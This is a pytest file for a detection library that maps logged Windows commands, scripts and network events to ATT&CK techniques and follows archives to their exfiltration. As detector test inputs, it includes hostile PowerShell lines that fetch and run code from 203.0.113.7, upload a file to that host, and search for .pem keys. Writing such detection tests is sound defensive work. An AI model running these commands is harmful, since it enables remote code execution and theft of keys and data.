"""Tables of behaviors, with a few rows and no hunt: what shows one, which are the same, and what came of them."""

from __future__ import annotations

from typing import Any

import pytest

from graphcorr.links.outcomes import _KEPT, _SOON
from tests.links.trying import SECOND, T, at, tried

HOUR = 3_600
EXE = r"c:\t\a.exe"


def start(id_: str, seconds: float, image: str, line: str, **more: object) -> dict[str, Any]:
    row = {"id": id_, **T, "image": rf"C:\Windows\System32\{image}", "command_line": line, "account": "Alice", "account_domain": "CORP"}
    return {**row, **at(seconds), **more}


def shown(id_: str, seconds: float, technique: str, way: str = "w", **more: object) -> dict[str, Any]:
    return {"id": id_, **T, "account": r"CORP\Alice", **at(seconds), "technique": technique, "way": way, **more}


def record(id_: str, seconds: float, technique: str, object_: str | None = None, **more: object) -> dict[str, Any]:
    return shown(id_, seconds, technique, object=object_, behavior=f"of {id_}", kind="ProcessStart", act=id_) | more


# --- commands and scripts ---


def test_shown_commands() -> None:
    rows = [
        start("a", 1, "systeminfo.exe", "systeminfo"),
        start("b", 2, "cmd.exe", "cmd /c del a.exe"),
        start("c", 3, "notepad.exe", "notepad systeminfo"),
        start("d", 4, "x.exe", "x.exe a out.7z docs", original_file_name="7z.exe", current_directory="C:\\t\\"),
        start("e", 5, "systeminfo.exe", "systeminfo", host=None),
    ]
    found = [(row["id"], row["technique"], row["account"], row["object"]) for row in tried("shown_commands", ProcessStart=rows)]
    assert found == [
        ("a", "T1082", r"CORP\Alice", None),
        ("b", "T1070.004", r"CORP\Alice", None),
        ("d", "T1560.001", r"CORP\Alice", r"c:\t\out.7z"),
    ]


@pytest.mark.parametrize(
    "line",
    [
        "powershell Get-ComputerInfo",
        "powershell -e RwBlAHQALQBDAG8AbQBwAHUAdABlAHIASQBuAGYAbwA=",
        "powershell gci -r -include *.pem",
        "powershell (gi a).LastWriteTime = 1",
        "powershell iwr http://203.0.113.7/a | iex",
        "powershell Compress-Archive a -DestinationPath b.zip",
        "powershell (New-Object Net.WebClient).UploadFile('http://203.0.113.7/','a')",
    ],
)
def test_a_line_of_a_shell_that_shows_something_becomes_a_row(line: str) -> None:
    assert tried("shown_commands", ProcessStart=[start("p", 1, "powershell.exe", line)])


def test_shown_scripts() -> None:
    rows = [
        {"id": "s", **T, **at(1), "text": "Get-ComputerInfo", "account": "Alice", "account_domain": "CORP"},
        {"id": "u", **T, **at(2), "text": None, "command_line": "powershell.exe Get-Service"},
        {"id": "v", **T, **at(3), "text": "Export-ModuleMember -Function Get-Service"},
    ]
    assert [(row["id"], row["technique"], row["account"]) for row in tried("shown_scripts", Script=rows)] == [
        ("s", "T1082", r"CORP\Alice"),
        ("u", "T1007", None),
    ]


# --- what shows one without a command ---


def behaviors(**rows: list[dict[str, Any]]) -> list[tuple[str, str, str, str | None]]:
    return sorted((row["id"], row["kind"], row["technique"], row["object"]) for row in tried("behavior_records", **rows))


def test_behavior_records() -> None:
    page = r"hku\s-1-5-21-1\software\microsoft\office\16.0\outlook\webview\inbox\url"
    assert behaviors(
        shown_commands=[shown("c", 1, "T1082"), shown("x", 2, "T1105", object=EXE)],
        shown_scripts=[shown("s", 1, "T1007")],
        same_process=[{"other": "c", "main": "m"}],
        FileCreate=[{"id": "f", **T, **at(1), "path": r"C:\T\a.zip", "image": r"C:\Windows\System32\python.exe"}],
        RegistrySet=[{"id": "r", **T, **at(1), "target_object": page, "details": "http://203.0.113.7/"}],
        HttpRequest=[{"id": "h", **at(1), "source_address": "10.0.0.5", "uri": "/?a=" + "0f" * 65}],
        Executable=[{"id": "e", **T, **at(1), "fuid": "F", "compiled": int(200_000 * SECOND)}],
    ) == [
        ("e", "Executable", "T1070.006", None),
        ("f", "FileCreate", "T1560.002", r"c:\t\a.zip"),
        ("h", "HttpRequest", "T1132.001", None),
        ("m", "ProcessStart", "T1082", None),
        ("r", "RegistrySet", "T1137.004", page),
        ("s", "Script", "T1007", None),
        ("x", "ProcessStart", "T1105", EXE),
    ]


@pytest.mark.parametrize(("digits", "found"), [(65, True), (64, False)])
def test_a_parameter_is_long_where_no_digest_is(digits: int, found: bool) -> None:
    row = {"id": "h", **at(1), "source_address": "10.0.0.5", "uri": "/?a=" + "0f" * digits}
    assert bool(behaviors(HttpRequest=[row])) is found


@pytest.mark.parametrize(("seconds", "found"), [(86_399, False), (86_401, True)])
def test_a_program_is_made_older_by_more_than_a_day(seconds: int, found: bool) -> None:
    row = {"id": "t", **T, **at(1), "path": EXE, "image": r"C:\Users\a\x.exe", "previous_created": 10**6 * SECOND}
    assert bool(behaviors(FileTime=[row | {"file_created": (10**6 - seconds) * SECOND}])) is found


def test_a_request_is_of_the_machine_that_had_the_address() -> None:
    row = {"id": "h", **at(1), "source_address": "10.0.0.5", "uri": "/?a=" + "0f" * 65}
    owner = {"address": "10.0.0.5", "host": "ws", "since": 0, "until": 100 * SECOND}
    assert {each["host"] for each in tried("behavior_records", HttpRequest=[row], owners=[owner])} == {"ws"}
    assert {each["host"] for each in tried("behavior_records", HttpRequest=[row])} == {"10.0.0.5"}


def test_what_is_one_behavior() -> None:
    rows = [
        shown("a", 1, "T1082"),
        shown("b", 2, "T1082", account=r"corp\ALICE"),
        shown("c", 3, "T1082", account="bob"),
        shown("d", 4, "T1105", object=r"c:\a"),
        shown("e", 5, "T1105", object=r"c:\b"),
        shown("f", 6, "T1082", object="x"),
    ]
    found = {row["id"]: row["behavior"] for row in tried("behavior_records", shown_commands=rows)}
    assert found["a"] == found["b"] == found["f"]
    assert len(set(found.values())) == 4


def test_behaviors() -> None:
    rows = [record("a", 1, "T1082"), record("b", 5, "T1082") | {"behavior": "of a"}]
    [found] = tried("behaviors", behavior_records=rows)
    assert (found["id"], found["count"], found["technique"]) == ("of a", 2, "T1082")
    assert (found["last"] - found["first"]).total_seconds() == 4
    [once] = tried("behaviors", behavior_records=[rows[0], rows[1] | {"act": "a"}])
    assert once["count"] == 1


def acts(*scripts: dict[str, Any], **more: object) -> list[str]:
    """Of scripts beside a command at second 20 that shows the same."""
    command = shown("p", 20, "T1082", pid=7) | more
    found = tried("behavior_records", shown_commands=[command], shown_scripts=scripts)
    return [row["act"] for row in sorted(found, key=lambda row: row["id"]) if row["kind"] == "Script"]


def script(seconds: float, id_: str = "s", **more: object) -> dict[str, Any]:
    return shown(id_, seconds, "T1082") | more


@pytest.mark.parametrize(("apart", "one"), [(-2, True), (-2.001, False), (3600, True), (3600.001, False)])
def test_a_command_and_the_scripts_of_its_process_are_one_act(apart: float, one: bool) -> None:
    assert acts(script(20 + apart, pid=7)) == ["p" if one else "s"]
    assert acts(script(20, pid=8)) == acts(script(20, pid=7, host="u")) == ["s"]


@pytest.mark.parametrize(("apart", "one"), [(-2, True), (-2.001, False), (10, True), (10.001, False)])
def test_a_command_and_a_script_soon_after_are_one_act_where_no_process_id_is_logged(apart: float, one: bool) -> None:
    assert acts(script(20 + apart)) == acts(script(20 + apart, pid=7), pid=None) == ["p" if one else "s"]
    assert acts(script(20, account="bob")) == ["s"]
    assert acts(script(20) | {"technique": "T1033"}) == ["s"]


def test_a_script_is_of_the_nearest_command_and_its_parts_are_one_act() -> None:
    commands = [shown("p", 20, "T1082"), shown("q", 24, "T1082")]
    found = tried("behavior_records", shown_commands=commands, shown_scripts=[script(25)])
    assert [row["act"] for row in found if row["kind"] == "Script"] == ["q"]
    assert acts(script(500, "s", script_block="b"), script(501, "t", script_block="b"), script(502, "u")) == ["b", "b", "u"]


# --- what came of them ---


def fetched(**run: object) -> list[tuple[str, str]]:
    rows = [start("r", 10, "x", EXE) | {"image": r"C:\T\a.exe", "names": ["a.exe"]} | run]
    fetches = [shown("f", 1, "T1105", object=EXE)]
    return [(row["fetch"], row["run"]) for row in tried("fetched_runs", shown_commands=fetches, ProcessStart=rows)]


def test_fetched_runs() -> None:
    assert fetched() == [("f", "r")]
    assert fetched(host="ws") == fetched(image=r"C:\other\a.exe", command_line="a.exe") == fetched(**at(0)) == []
    assert fetched(**at(1 + HOUR)) == [("f", "r")]
    assert fetched(**at(2 + HOUR)) == []
    assert _SOON == "INTERVAL 1 HOUR"


def test_what_is_named_to_an_interpreter_is_run_and_what_is_deleted_is_not() -> None:
    shell = r"C:\Windows\System32\cmd.exe"
    assert fetched(image=shell, command_line=r"cmd /c c:\t\a.exe -x", names=["cmd.exe", "a.exe"]) == [("f", "r")]
    assert fetched(image=shell, command_line=r"cmd /c del c:\t\a.exe", names=["cmd.exe", "a.exe"]) == []


ARCHIVE = record("a", 10, "T1560.001", r"c:\t\out.rar")


def outcomes(**rows: list[dict[str, Any]]) -> list[tuple[str, str, str]]:
    return sorted((row["behavior"], row["event"], row["kind"]) for row in tried("behavior_outcomes", **rows))


def test_behavior_outcomes() -> None:
    ours = [ARCHIVE, record("u", 20, "T1048", r"c:\t\out.rar"), record("f", 1, "T1105", EXE)]
    runs = [{"fetch": "g", "run": "r"}]
    same = [{"other": "g", "main": "f"}, {"other": "r", "main": "q"}]
    assert outcomes(behavior_records=ours, fetched_runs=runs, same_process=same) == [
        ("of a", "u", "ProcessStart"),
        ("of f", "q", "ProcessStart"),
    ]


@pytest.mark.parametrize(
    ("sent", "found"),
    [
        ({}, True),
        ({"object": r"\\x\out.rar"}, True),
        ({"object": r"c:\t\other.rar"}, False),
        ({"host": "ws"}, False),
        ({"technique": "T1105"}, False),
        (at(9), False),
        (at(10 + 7 * 24 * HOUR), True),
        (at(11 + 7 * 24 * HOUR), False),
    ],
)
def test_a_command_sends_an_archive(sent: dict[str, Any], found: bool) -> None:
    assert bool(outcomes(behavior_records=[ARCHIVE, record("u", 20, "T1048", r"c:\t\out.rar") | sent])) is found
    assert _KEPT == "INTERVAL 7 DAY"


OWNERS = [{"address": "10.0.0.9", "host": "t", "since": 0, "until": 10**6 * SECOND}]


@pytest.mark.parametrize(
    ("request_", "found"),
    [
        ({"uri": "/in/OUT.rar"}, True),
        ({"uri": "/in", "sent_types": ["application/x-rar"]}, True),
        ({"uri": "/in", "sent_types": ["text/html"]}, False),
        ({"uri": "/in/OUT.rar", "method": "GET"}, False),
        ({"uri": "/in/out.rarely"}, False),
        ({"uri": "/in?name=out%2Erar&x=1"}, True),
        ({"uri": "/in/OUT.rar", "source_address": "10.0.0.5"}, False),
        ({"uri": "/in", "sent_types": ["application/x-rar"]} | at(11 + HOUR), False),
        ({"uri": "/in/OUT.rar"} | at(11 + HOUR), True),
    ],
)
def test_an_archive_leaves_over_http(request_: dict[str, Any], found: bool) -> None:
    row = {"id": "h", **at(20), "method": "POST", "source_address": "10.0.0.9", **request_}
    assert bool(outcomes(behavior_records=[ARCHIVE], HttpRequest=[row], owners=OWNERS)) is found


@pytest.mark.parametrize(
    ("transfer", "found"),
    [
        ({"relative_path": "out.rar"}, True),
        ({"mime_type": "application/x-rar"}, True),
        ({"mime_type": "application/zip"}, False),
        ({"mime_type": "application/x-rar", "protocol": "SMB"}, False),
        ({"relative_path": "out.rar", "from_originator": False}, False),
    ],
)
def test_an_archive_leaves_as_a_file_on_the_wire(transfer: dict[str, Any], found: bool) -> None:
    row = {"id": "x", **at(20), "source_address": "10.0.0.9", "from_originator": True, "protocol": "FTP_DATA", **transfer}
    assert bool(outcomes(behavior_records=[ARCHIVE], Transfer=[row], owners=OWNERS)) is found


@pytest.mark.parametrize(
    ("write", "found"), [({}, True), ({"host": "t"}, False), ({"loopback": True}, False), ({"path": r"C:\x.rar"}, False)]
)
def test_an_archive_is_written_to_another_machine(write: dict[str, Any], found: bool) -> None:
    row = {"id": "w", "host": "ws", **at(20), "source": "10.0.0.9", "path": r"C:\In\out.rar", "loopback": False, **write}
    assert bool(outcomes(behavior_records=[ARCHIVE], writes=[row], owners=OWNERS)) is found


def test_what_leaves_without_its_name_is_the_last_that_was_packed() -> None:
    packed = [ARCHIVE | {"id": f"a{number}", "behavior": f"of a{number}", **at(number)} for number in range(5)]
    row = {"id": "h", **at(20), "method": "POST", "source_address": "10.0.0.9", "uri": "/in", "sent_types": ["application/x-rar"]}
    assert outcomes(behavior_records=packed, HttpRequest=[row], owners=OWNERS) == [("of a4", "h", "HttpRequest")]


# --- downloads ---


@pytest.mark.parametrize(
    ("change", "found"),
    [
        ({}, True),
        ({"uri": "/a/X.rar?b=1#c"}, True),
        ({"uri": "/x.rar/"}, False),
        ({"uri": "/other/x.rar"}, False),
        ({"uri": "/x.rar"}, True),
        ({"uri": "/a/%78.rar"}, True),
        ({"method": "HEAD"}, False),
        ({"status_code": 404}, False),
        ({"status_code": 206}, True),
        ({"host": "ws"}, False),
        (at(-1), False),
        (at(50), False),
        ({"key": r"c:\t\x.rar"}, False),
        ({"name": "x.html", "uri": "/x.html"}, False),
    ],
)
def test_downloads(change: dict[str, Any], found: bool) -> None:
    of_version = {name: value for name, value in change.items() if name in {"key", "name"}}
    version = {"id": "v", **T, "key": r"c:\inetpub\wwwroot\a\x.rar", "name": "x.rar", **at(0), "ended_latest": 40 * SECOND} | of_version
    asked = {name: value for name, value in change.items() if name not in of_version}
    request_ = {"id": "h", **T, **at(20), "method": "GET", "uri": "/a/x.rar", "status_code": 200} | asked
    told = [(row["event"], row["version"]) for row in tried("downloads", versions=[version], HttpRequest=[request_])]
    assert told == ([("h", "v")] if found else [])
